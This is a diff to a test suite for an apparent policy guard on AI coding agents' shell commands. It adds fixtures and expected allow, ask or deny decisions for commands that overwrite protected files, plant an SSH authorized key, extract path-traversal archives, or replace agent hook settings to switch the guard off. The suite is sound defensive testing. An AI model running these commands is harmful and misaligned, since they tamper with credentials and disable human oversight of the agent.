@@ -29,6 +29,22 @@ TREE: dict[str, str | None] = {
     f"{HOME}/.local/state/agentdeck/policy/claude.json": "{}",
     f"{HOME}/.codex/hooks.json": "{}", f"{HOME}/.codex/agentdeck-hook.sh": "#!/bin/sh",
     f"{HOME}/.claude/settings.json": "{}", f"{HOME}/.copilot/hooks/agentdeck.json": "{}",
+    f"{HOME}/protected/a.txt": "x", f"{CWD}/notes.txt": "x",
+    "/tmp/in/settings.json": "{}", "/tmp/in/agentdeck-hook.sh": "#!/bin/sh\nexit 0\n",
+    "/tmp/in/hooks.json": "{}", "/tmp/in/evil/settings.local.json": "{}",
+    "/tmp/in/plain/a.txt": "x",
+    # archives (MemoryFS: `archive:` and a member per line, `->` a link member)
+    "/tmp/src.tgz": "archive:\nsrc/\nsrc/app.py\nREADME.md",
+    "/tmp/in/evil.tar": "archive:\n.claude/\n.claude/settings.local.json",
+    "/tmp/in/evil.zip": "archive:\n.claude/settings.local.json",
+    "/tmp/in/abs.tar": f"archive:\n{HOME}/.claude/settings.json",
+    "/tmp/in/absprot.tar": f"archive:\n{HOME}/protected/a.txt",
+    "/tmp/in/dotdot.zip": "archive:\n../../.claude/settings.json",
+    "/tmp/in/evil.patch": "--- a/../../protected/a.txt\n+++ b/../../protected/a.txt\n@@ -1 +1 @@\n-x\n+y\n",
+    "/tmp/in/layer.patch": "diff --git a/.claude/settings.local.json b/.claude/settings.local.json\n"
+                           "--- /dev/null\n+++ b/.claude/settings.local.json\n@@ -0,0 +1 @@\n+{}\n",
+    "/tmp/in/ok.patch": "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-x\n+y\n",
+    "/tmp/in/hl.tar": "archive:\n->hlkey", "/tmp/in/docs.zip": "archive:\ndocs/a.md\ndocs/b.md",
 }
 
 CORPUS_POLICY = {
@@ -50,6 +66,8 @@ CORPUS_POLICY = {
          "access": ["write"], "decision": "deny", "reason": "who may log in stays as it is"},
         {"id": "cloud-credentials", "paths": ["~/.aws/credentials"], "access": ["read", "write"],
          "decision": "deny", "reason": "cloud credentials stay private"},
+        {"id": "protected-tree", "paths": ["~/protected/**"], "access": ["write"],
+         "decision": "deny", "reason": "a tree agents read but do not change"},
     ],
 }
 #: the guard's own files as self_protection() gives them for a default layout
@@ -314,6 +332,87 @@ _EFFECTS = [
 ]
 #: more effects (sed e): spliced into the class (_build)
 _EFFECTS_MORE = [("sed -n e README.md", "ask")]
+#: a file copied, moved, linked or installed INTO A FOLDER lands at DIR/<its name>; a folder
+#: copied (-r), moved or linked as a whole writes everything under its new place, so a protected
+#: path it holds by name (a `.claude` folder's settings.local.json) counts as written
+_INTO_FOLDERS_SELF = [
+    "cp /tmp/in/settings.json ~/.claude", "cp /tmp/in/settings.json ~/.claude/",
+    "cd ~/.claude && cp /tmp/in/settings.json .", "cp -p /tmp/in/agentdeck-hook.sh ~/.codex",
+    "cp /tmp/in/hooks.json ~/.codex", "install /tmp/in/agentdeck-hook.sh ~/.claude",
+    "ln -sf /tmp/in/agentdeck-hook.sh ~/.qwen", "mv /tmp/in/settings.json ~/.qwen",
+    "cp /tmp/in/agentdeck-hook.sh /tmp/in/settings.json ~/.claude",
+    "rsync -a /tmp/in/settings.json ~/.claude/", "cp /tmp/in/settings.json ~/.claude/.",
+]
+_INTO_FOLDERS_LAYERS = [
+    "cp -r /tmp/in/evil .claude", "ln -s /tmp/in/evil .claude", "mv /tmp/in/evil .qwen",
+    "mkdir -p .claude && cp /tmp/in/settings.json .claude/", "cp -a /tmp/in/evil ../.claude",
+    "rsync -a /tmp/in/evil/ .claude", "ln -s /tmp/in/evil ../.codex",
+    "cp -r /tmp/in/made-later .claude",
+]
+_INTO_FOLDERS_TREE = [
+    "cp notes.txt ~/protected", "cp notes.txt ~/protected/", "cd ~/protected && cp ~/work/repo/notes.txt .",
+    "install -m 644 notes.txt ~/protected", "mv notes.txt ~/protected",
+    "cp -r /tmp/in/plain ~/protected", "ln -s /tmp/in/plain ~/protected/p",
+]
+#: the same programs where the file lands on nothing protected: allowed
+_INTO_FOLDERS_ALLOW = [
+    "cp README.md /tmp/", "cp README.md /tmp/x", "cp -r src /tmp/src", "mv build dist",
+    "ln -s ../shared lib", "cp -r /tmp/in/plain .", "mv notes.txt /tmp/",
+    "install -m 755 run.sh /tmp/bin", "cp /tmp/in/settings.json .claude/commands/",
+    "cp ~/protected/a.txt /tmp/", "cp -r ~/protected /tmp/p", "cp /tmp/in/plain/a.txt ~/.claude/notes.txt",
+    "rsync -a src/ /tmp/src",
+]
+#: programs whose OUTPUT an option or a later operand names write it (programs.OUTPUT_OPTIONS,
+#: OUTPUT_OPERANDS, IN_PLACE, output_writes), and mkdir makes what it is given
+_OUTPUTS_DENY = [
+    "sort -o ~/protected/a.txt notes.txt", "sort -uo ~/protected/a.txt notes.txt",
+    "sort --output=/home/policy-test/protected/a.txt notes.txt",
+    "uniq notes.txt ~/protected/a.txt", "split -l1 notes.txt ~/protected/p_",
+    "curl -s -o ~/protected/a.txt file:///etc/hostname", "curl -sSLo ~/.ssh/authorized_keys http://x/k",
+    "wget -q -O ~/protected/a.txt http://127.0.0.1:1/", "wget -P ~/.claude http://x/settings.json",
+    "cd ~/.codex && curl -O http://x/hooks.json", "ssh-keygen -q -N '' -f ~/protected/k",
+    "ssh-keygen -q -N '' -f ~/.ssh/id_new", "gzip ~/protected/a.txt", "bzip2 -f ~/protected/a.txt",
+    "xz ~/protected/a.txt", "zstd --rm ~/protected/a.txt", "git init -q ~/protected",
+    "cd ~/protected && git init", "git clone http://x/evil.git .claude",
+    "mkdir ~/protected/newdir", "mkdir -p ~/protected/a/b", "gpg -o ~/.claude/settings.json -d x.gpg",
+    "openssl enc -d -in x.enc -out ~/.codex/hooks.json", "csplit -f ~/protected/p notes.txt 2",
+    "xxd -r notes.txt ~/protected/a.txt",
+]
+_OUTPUTS_ALLOW = [
+    "sort -o out.txt notes.txt", "sort notes.txt", "uniq notes.txt", "uniq notes.txt out.txt",
+    "split -l1 notes.txt part_", "curl -o /tmp/x http://x/y", "curl -O http://x/y.tgz",
+    "wget http://x/y.tgz", "gzip -c ~/protected/a.txt", "gzip -k notes.txt",
+    "gzip -t ~/protected/a.txt", "zcat ~/protected/a.txt", "git init", "git init /tmp/newrepo",
+    "git clone http://x/repo.git", "mkdir -p build/out", "ssh-keygen -t ed25519 -f /tmp/k -N ''",
+    "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "grep -o foo notes.txt", "sort ~/protected/a.txt",
+]
+#: an archive extracted writes its whole tree: each member (listed from the archive at decision
+#: time) where it lands, absolute or climbing ones where the program keeps them (tar -P, unzip -:);
+#: members that cannot be listed (standard input, a link member, another format) are unresolved
+#: where a protected path may lie under the folder; `-C DIR` is a folder, not an operand
+_ARCHIVES = [
+    ("tar -xf /tmp/in/evil.tar", "deny"), ("tar -xPf /tmp/in/abs.tar", "deny"),
+    ("tar --absolute-names -xf /tmp/in/abs.tar", "deny"), ("tar -xPf /tmp/in/absprot.tar", "deny"),
+    ("unzip -o -: /tmp/in/dotdot.zip", "deny"), ("unzip -oq /tmp/in/evil.zip", "deny"),
+    ("unzip /tmp/in/docs.zip -d ~/protected/d", "deny"), ("bsdtar -xf /tmp/in/evil.tar", "deny"),
+    ("7z x /tmp/in/evil.zip", "deny"), ("jar xf /tmp/in/evil.zip", "deny"),
+    ("cd .. && tar xf /tmp/in/evil.tar", "deny"), ("tar -xf /tmp/in/evil.tar -C ~", "deny"),
+    ("tar -xf /tmp/in/hl.tar", "ask"), ("tar -xPf /tmp/in/hl.tar", "ask"),
+    ("tar -xf /tmp/unknown.tar", "ask"), ("cpio -idv < /tmp/x.cpio", "ask"),
+    ("curl -s http://x/a.tgz | tar xz", "ask"), ("ar x /tmp/lib.a", "ask"),
+    ("tar -xzf /tmp/src.tgz -C /tmp/out", "allow"), ("unzip /tmp/in/docs.zip", "allow"),
+    ("unzip -o /tmp/in/docs.zip -d /tmp/o", "allow"),
+    ("unzip -l /tmp/in/evil.zip", "allow"), ("tar -tf /tmp/in/evil.tar", "allow"),
+    ("tar -xOf /tmp/in/evil.tar", "allow"), ("tar -czf /tmp/p.tgz -C ~ protected", "allow"),
+    ("tar -czf /tmp/p.tgz --directory=/home/policy-test protected", "allow"),
+    ("tar -C src -czf /tmp/s.tgz .", "allow"), ("tar -czf /tmp/p.tgz -C ~ .ssh", "deny"),
+    # a patch writes every file its text names (read at decision time)
+    ("git apply --unsafe-paths -p1 /tmp/in/evil.patch", "deny"),
+    ("git apply /tmp/in/layer.patch", "deny"), ("patch -p1 < /tmp/in/layer.patch", "deny"),
+    ("patch -p1 -i /tmp/in/layer.patch", "deny"), ("git apply /tmp/in/missing.patch", "ask"),
+    ("git apply /tmp/in/ok.patch", "allow"), ("patch -p1 < /tmp/in/ok.patch", "allow"),
+    ("git apply --check /tmp/in/layer.patch", "allow"), ("git apply /tmp/in/evil.patch", "allow"),
+]
 #: more of the class: a parent's file, a link made over it, Codex's project hooks file
 _LAYER_MORE = [
     "ln -sf /tmp/s.json .claude/settings.local.json", "cat > ../.claude/settings.local.json",
@@ -442,17 +541,24 @@ def _build() -> dict[str, list]:
     CLASSES["reads of protected files"] = _splice([(c, d, "deny") for c, d in _KEY_READS],
                                                   [(c, d, "deny") for c, d in _KEY_READS_MORE],
                                                   _AT["reads"])
-    CLASSES["writes of protected files"] = [(c, CWD, "deny") for c in _KEY_WRITES]
-    CLASSES["the guard's own files"] = [(c, CWD, "deny") for c in _SELF_WRITES]
+    CLASSES["writes of protected files"] = ([(c, CWD, "deny") for c in _KEY_WRITES]
+                                            + [(c, CWD, "deny") for c in _INTO_FOLDERS_TREE]
+                                            + [(c, CWD, "deny") for c in _OUTPUTS_DENY])
+    CLASSES["the guard's own files"] = ([(c, CWD, "deny") for c in _SELF_WRITES]
+                                        + [(c, CWD, "deny") for c in _INTO_FOLDERS_SELF])
     CLASSES["layers that switch hooks off"] = ([(c, CWD, "deny") for c in _HOOK_OFF_WRITES]
                                                + [(c, CWD, "deny") for c in _LAYER_MORE]
+                                               + [(c, CWD, "deny") for c in _INTO_FOLDERS_LAYERS]
                                                + [(c, CWD, "allow") for c in _HOOK_OFF_ALLOW])
     CLASSES["shell forms not evaluated"] = _splice([(c, CWD, e) for c, e in _NOT_EVALUATED],
                                                    [(c, CWD, e) for c, e in _NOT_EVALUATED_MORE],
                                                    _AT["forms"])
     CLASSES["links, deletions and code run elsewhere"] = _splice(
-        [(c, CWD, e) for c, e in _EFFECTS], [(c, CWD, e) for c, e in _EFFECTS_MORE], _AT["effects"])
-    CLASSES["mentions and neighbours"] = [(c, CWD, "allow") for c in _MENTIONS_ALLOW]
+        [(c, CWD, e) for c, e in _EFFECTS], [(c, CWD, e) for c, e in _EFFECTS_MORE],
+        _AT["effects"]) + [(c, CWD, e) for c, e in _ARCHIVES]
+    CLASSES["mentions and neighbours"] = [(c, CWD, "allow")
+                                          for c in _MENTIONS_ALLOW + _INTO_FOLDERS_ALLOW
+                                          + _OUTPUTS_ALLOW]
     CLASSES["other tools"] = list(_TOOL_CASES)
     return CLASSES
 
